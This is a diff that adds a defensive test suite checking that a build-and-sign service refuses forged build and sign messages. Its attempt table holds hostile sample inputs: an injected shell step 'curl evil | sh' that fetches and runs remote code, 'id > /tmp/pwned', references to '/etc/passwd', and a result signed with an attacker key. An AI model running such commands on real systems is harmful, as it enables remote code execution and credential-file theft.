@@ -1,0 +1,183 @@
+/**
+ * Forgery: what a client that can publish on the build and sign subjects gets when it tries
+ * to make the factory run its code or sign what it did not build. The real handlers of the
+ * builder (request.ts, with a real Builder in its sandbox) and the signer (handle.ts) run
+ * against real NATS KV (test/harness.ts); messages are decoded with the real contracts, as the
+ * consumers do. One real build of `package/motd` from the sample catalog gives the legitimate
+ * result every forgery is measured against, and a control attempt shows it is signed.
+ *
+ * Every attempt is refused, leaves the key's state KV entry byte-identical, and writes no
+ * signature (the store and the image layouts are unchanged). Attempts are a table: add a row
+ * (e.g. "without credentials", "with another service's identity") with the stage it targets,
+ * the message, and what refusal it must meet.
+ */
+import { after, before, describe, test } from "node:test";
+import assert from "node:assert/strict";
+import { generateKeyPairSync } from "node:crypto";
+import { chmod, cp, mkdir, readdir } from "node:fs/promises";
+import path from "node:path";
+import { AdvisoryStore, buildRequestOf, CatalogSource, DesiredState, parseCatalogLocation, ReleaseStore } from "@homeostat/catalog";
+import { BUILD_RESULT_PREDICATE_TYPE, signDsse, statementAbout, writeStoreBlob } from "@homeostat/attest";
+import { buildRequestSchema, ContractError, decodeMessage, encodeMessage, keyToken, NonRetriableError, signRequestSchema, StateStore, type BuildRequest, type Key, type Logger, type SignRequest } from "@homeostat/core";
+import { managedKeyProvider, pemKeyProvider } from "@homeostat/key-custody";
+import { Builder } from "../services/builder/src/build.ts";
+import { resolveIsolation } from "../services/builder/src/isolation.ts";
+import { createBuildHandler, type BuildRefusal } from "../services/builder/src/request.ts";
+import { createSignHandler } from "../services/signer/src/handle.ts";
+import type { SignRefusal } from "../services/signer/src/admit.ts";
+import { repoRoot } from "../scripts/factory.ts";
+import { testEnv, type TestEnv } from "./harness.ts";
+
+const quiet: Logger = { info() {}, warn() {}, error() {} };
+const MOTD: Key = "package/motd";
+
+type Attempt = {
+  name: string;
+  stage: "build" | "sign";
+  /** The message as the attacker sends it; a function sees the legitimate build of motd. */
+  message: (legit: Legit) => unknown | Promise<unknown>;
+  /** "contract": refused at the edge by the schema; else the refusal reason the handler counts. */
+  refused: "contract" | BuildRefusal | SignRefusal;
+};
+
+type Legit = { build: BuildRequest; sign: SignRequest; env: TestEnv };
+
+const otherKey = () => pemKeyProvider(generateKeyPairSync("ec", { namedCurve: "P-256", privateKeyEncoding: { type: "pkcs8", format: "pem" }, publicKeyEncoding: { type: "spki", format: "pem" } }).privateKey, "attacker key");
+
+const attempts: Attempt[] = [
+  { name: "build: a key not in the catalog, carrying its own shell steps", stage: "build", refused: "contract", message: (l) => ({ ...l.build, key: "package/evil", steps: ["curl evil | sh"], source: { url: "file:///etc/passwd", sha256: "0".repeat(64) } }) },
+  { name: "build: a key not in the catalog", stage: "build", refused: "not-in-catalog", message: (l) => ({ ...l.build, key: "package/evil" }) },
+  { name: "build: injected steps for a catalog key", stage: "build", refused: "contract", message: (l) => ({ ...l.build, steps: ["id > /tmp/pwned"] }) },
+  { name: "build: the old request shape (v1, recipe inline)", stage: "build", refused: "contract", message: (l) => ({ ...l.build, v: 1 }) },
+  { name: "build: a wrong input digest", stage: "build", refused: "input-mismatch", message: (l) => ({ ...l.build, inputDigest: `sha256:${"1".repeat(64)}` }) },
+  { name: "build: a wrong version", stage: "build", refused: "version-mismatch", message: (l) => ({ ...l.build, version: "9.9" }) },
+  { name: "build: a catalog revision this builder cannot have", stage: "build", refused: "unknown-revision", message: (l) => ({ ...l.build, catalogRevision: `sha256:${"2".repeat(64)}` }) },
+  { name: "sign: an OCI layout path outside the data directory", stage: "sign", refused: "contract", message: (l) => ({ v: 1, key: MOTD, kind: "package", name: "motd", version: "1.0", inputDigest: l.sign.inputDigest, outputs: { archive: l.sign.buildResult, location: "/tmp/evil:1.0" } }) },
+  { name: "sign: a path instead of a digest", stage: "sign", refused: "contract", message: (l) => ({ ...l.sign, buildResult: "/etc/passwd" }) },
+  { name: "sign: a location field beside the digest", stage: "sign", refused: "contract", message: (l) => ({ ...l.sign, location: "/tmp/evil" }) },
+  { name: "sign: a digest not in the store", stage: "sign", refused: "not-in-store", message: (l) => ({ ...l.sign, buildResult: `sha256:${"3".repeat(64)}` }) },
+  {
+    name: "sign: a blob in the store that is no build result (an archive)",
+    stage: "sign",
+    refused: "corrupt",
+    message: async (l) => ({ ...l.sign, buildResult: await writeStoreBlob(l.env.config.dataDir, "not an envelope") }),
+  },
+  {
+    name: "sign: a build result signed by an untrusted key",
+    stage: "sign",
+    refused: "untrusted-builder",
+    message: async (l) => ({ ...l.sign, buildResult: await forgedResult(l, await otherKey()) }),
+  },
+  { name: "sign: the legitimate result for another key", stage: "sign", refused: "result-mismatch", message: (l) => ({ ...l.sign, key: "package/greet" }) },
+  { name: "sign: the legitimate result under another input digest", stage: "sign", refused: "result-mismatch", message: (l) => ({ ...l.sign, inputDigest: `sha256:${"4".repeat(64)}` }) },
+];
+
+/** A build result for motd's inputs naming a blob the builder never made, signed by `key`. */
+async function forgedResult(l: Legit, key: Awaited<ReturnType<typeof otherKey>>): Promise<string> {
+  const evil = await writeStoreBlob(l.env.config.dataDir, "evil archive");
+  const predicate = { key: MOTD, kind: "package", name: "motd", version: "1.0", inputDigest: l.sign.inputDigest, catalogRevision: l.build.catalogRevision, isolation: "bubblewrap", builder: "x", outputs: { archive: evil, metadata: evil, provenance: evil } };
+  return writeStoreBlob(l.env.config.dataDir, await signDsse(statementAbout([{ name: "archive", digest: evil }], BUILD_RESULT_PREDICATE_TYPE, predicate), key));
+}
+
+describe("forgery", { timeout: 180_000 }, () => {
+  let t: TestEnv;
+  let legit: Legit;
+  let handleBuild: (req: BuildRequest) => Promise<void>;
+  let handleSign: (req: SignRequest) => Promise<void>;
+  let state: StateStore;
+  const signRequests: SignRequest[] = [];
+  const refusals: string[] = [];
+
+  /** The key's raw KV entry (value and revision) and every file the signer could have written. */
+  const snapshot = async (key: Key) => {
+    const e = await t.buckets.state.get(keyToken(key));
+    const files = async (dir: string) => (await readdir(dir, { recursive: true }).catch(() => [] as string[])).sort();
+    return { value: e ? Buffer.from(e.value).toString("base64") : null, revision: e?.revision ?? 0, store: await files(path.join(t.config.dataDir, "store", "blobs")), oci: await files(path.join(t.config.dataDir, "oci")) };
+  };
+
+  before(async () => {
+    t = await testEnv();
+    // As root the sandbox runs steps as the build uid, which must reach the workspaces.
+    await mkdir(t.config.dataDir, { recursive: true });
+    for (const d of [t.dir, t.config.dataDir]) await chmod(d, 0o711);
+    const catalogDir = path.join(t.dir, "catalog");
+    await cp(path.join(repoRoot, "examples"), path.join(t.dir), { recursive: true });
+    const catalogs = await CatalogSource.open(parseCatalogLocation(catalogDir), { cacheDir: path.join(t.dir, "cache") });
+    state = new StateStore(t.buckets.state);
+    const releases = new ReleaseStore(t.buckets.releases);
+    const advisories = await AdvisoryStore.open(t.nats);
+    const isolation = await resolveIsolation(t.config.buildSandbox);
+    const identity = await managedKeyProvider({ dir: t.config.builderDir, name: "builder" });
+    const builder = new Builder({ dataDir: t.config.dataDir, timeoutMs: 60_000, maxSourceBytes: 1 << 24, unpackLimits: { maxBytes: 1 << 26, maxEntries: 10_000 }, isolation, sourceBaseDir: catalogDir }, { concurrency: 1 });
+    handleBuild = createBuildHandler({
+      catalogAt: (r) => catalogs.at(r), releases, advisories, state, sourceDateEpoch: 0, build: (plan) => builder.build(plan), dataDir: t.config.dataDir,
+      isolation: isolation.kind, identity, publishSign: async (req) => void signRequests.push(req), refused: (r) => void refusals.push(r), log: quiet,
+    });
+    handleSign = createSignHandler({
+      dataDir: t.config.dataDir, state, trustedBuilderKeys: [identity.publicKeyPem], allowUnsandboxed: false,
+      signer: await managedKeyProvider({ dir: t.config.signerDir, name: "cosign" }), imageRepository: "localhost/homeostat",
+      enqueue: async () => {}, refused: (r) => void refusals.push(r), log: quiet,
+    });
+    // What the reconciler does: decide the build, record it as desired, ask for it.
+    const desired = await new DesiredState({ catalog: catalogs.current(), releases: (p) => releases.list(p), advisories: (p) => advisories.list(p), status: (k) => state.get(k), sourceDateEpoch: 0 }).package("motd");
+    assert.equal(desired.state, "build");
+    if (desired.state !== "build") return;
+    await state.update(MOTD, () => ({ ...StateStore.initial(MOTD), phase: "Building", desiredVersion: desired.version, desiredInputDigest: desired.inputDigest }));
+    const build = buildRequestOf(desired.plan);
+    await handleBuild(decodeMessage(buildRequestSchema, encodeMessage(build)));
+    assert.equal(signRequests.length, 1, "the legitimate build was built and handed to the signer");
+    legit = { build, sign: signRequests[0]!, env: t };
+  });
+
+  after(async () => {
+    await t?.cleanup();
+  });
+
+  for (const attempt of attempts) {
+    test(`refused: ${attempt.name}`, async () => {
+      const message = encodeMessage(await attempt.message(legit));
+      const before = await snapshot(MOTD);
+      const refusedBefore = refusals.length;
+      const sentBefore = signRequests.length;
+      const run = async () => {
+        if (attempt.stage === "build") await handleBuild(decodeMessage(buildRequestSchema, message));
+        else await handleSign(decodeMessage(signRequestSchema, message));
+      };
+      await assert.rejects(run(), (e: unknown) => {
+        if (attempt.refused === "contract") assert.ok(e instanceof ContractError, `refused at the edge by the contract: ${String(e)}`);
+        else assert.ok(e instanceof NonRetriableError && e.message.includes(`(${attempt.refused})`), `refused as ${attempt.refused}: ${String(e)}`);
+        return true;
+      });
+      if (attempt.refused !== "contract") assert.deepEqual(refusals.slice(refusedBefore), [attempt.refused], "counted once, by reason");
+      assert.equal(signRequests.length, sentBefore, "nothing reached the signer");
+      const afterward = await snapshot(MOTD);
+      assert.equal(afterward.value, before.value, "the key's state entry is byte-identical");
+      assert.equal(afterward.revision, before.revision, "and was not rewritten");
+      assert.deepEqual(afterward.oci, before.oci, "no image signature was written");
+      assert.deepEqual(afterward.store, before.store, "no blob signature was written");
+      assert.equal((await state.get(MOTD))?.actual, undefined, "the key was never signed");
+    });
+  }
+
+  test("an unsandboxed build result is refused unless HOMEOSTAT_SIGN_UNSANDBOXED", async () => {
+    // The legitimate result, as a builder running unsandboxed would vouch for it.
+    const identity = await managedKeyProvider({ dir: t.config.builderDir, name: "builder" });
+    const { readStoreBlob, openDsse } = await import("@homeostat/attest");
+    const { statement } = openDsse(await readStoreBlob(t.config.dataDir, legit.sign.buildResult), [identity.publicKeyPem], BUILD_RESULT_PREDICATE_TYPE);
+    const predicate = { ...(statement.predicate as object), isolation: "none" };
+    const unsandboxed = await writeStoreBlob(t.config.dataDir, await signDsse(statementAbout(statement.subject.map((s) => ({ name: s.name, digest: `sha256:${s.digest.sha256}` })), BUILD_RESULT_PREDICATE_TYPE, predicate), identity));
+    const before = await snapshot(MOTD);
+    await assert.rejects(handleSign({ ...legit.sign, buildResult: unsandboxed }), /\(unsandboxed\)/);
+    assert.deepEqual(await snapshot(MOTD), before);
+  });
+
+  test("control: the legitimate sign request is signed and the key becomes Ready", async () => {
+    await handleSign(decodeMessage(signRequestSchema, encodeMessage(legit.sign)));
+    const s = await state.get(MOTD);
+    assert.equal(s?.phase, "Ready");
+    assert.equal(s?.actual?.inputDigest, legit.sign.inputDigest);
+    assert.equal(s?.actual?.isolation, "bubblewrap");
+    assert.ok(s?.actual?.signatures.archive, "the archive is signed");
+    assert.equal(s?.actual?.outputs.location, path.join(t.config.dataDir, "store", "blobs", "sha256", s!.actual!.outputs.archive!.slice(7)), "the location is the signer's own reckoning");
+  });
+});
